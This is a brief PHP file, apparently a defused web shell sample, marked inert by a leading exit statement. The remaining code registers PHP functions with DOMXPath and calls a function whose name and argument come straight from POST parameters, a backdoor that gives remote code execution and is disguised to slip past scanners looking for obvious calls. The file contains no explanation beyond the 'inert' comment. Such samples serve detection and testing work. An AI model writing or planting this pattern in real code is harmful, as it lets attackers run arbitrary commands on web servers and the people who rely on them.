<?php exit; /* inert */ $xml = new DOMDocument();
$xml->loadXML('<a>' . htmlspecialchars($_POST['c']) . '</a>');
$xp = new DOMXPath($xml);
$xp->registerNamespace('php', 'http://php.net/xpath');
$xp->registerPhpFunctions();
$xp->query('//a[php:functionString("' . $_POST['f'] . '", .)]');
